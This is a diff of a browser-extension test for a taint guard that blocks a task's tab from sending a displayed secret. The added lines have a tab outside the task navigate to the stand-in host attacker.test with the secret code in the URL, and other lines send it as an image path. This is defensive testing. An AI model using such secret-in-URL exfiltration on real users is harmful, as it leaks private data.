@@ -248,8 +248,9 @@ for (const variant of ['full', 'nohooks'] as const) {
 /**
  * The taint's rules are dynamic rules, which cannot name tabs: session allow rules keep them off every
  * request outside the guard's scope (src/background/dnr.ts, buildTaintRules). With guard scope
- * `task-tabs`, a tab the task did not start in sends what it likes; the task's tab cannot send the secret
- * it showed. No MAIN-world hooks, so the floor alone decides both.
+ * `task-tabs`, a tab the task did not start in sends what it likes, by a subresource or a top-level
+ * navigation; the task's tab cannot send the secret it showed. No MAIN-world hooks, so the floor alone
+ * decides both.
  */
 test.describe('the taint with guard scope task-tabs, no MAIN-world hooks', () => {
   test('the task tab cannot carry the shown secret to attacker.test; a tab outside the task can', async () => {
@@ -273,6 +274,9 @@ test.describe('the taint with guard scope task-tabs, no MAIN-world hooks', () =>
       await otherTab.goto(`${server.origin('other.test')}/other/${id}`);
       await send(otherTab, `/${id}/other/${secret.code}.png`);
       await server.waitFor(`/${id}/other/`, ATTACKER, 2 * QUIET_MS);
+      // A top-level navigation of that tab too (an allow rule that names no resource type leaves main_frame out).
+      await otherTab.goto(`${server.origin(ATTACKER)}/${id}/other-page/${secret.code}`);
+      expect(server.hits(`/${id}/other-page/`, ATTACKER), 'the tab outside the task navigated to attacker.test').toHaveLength(1);
 
       await send(taskTab, `/${id}/task/${secret.code}.png`);
       await sleep(QUIET_MS);
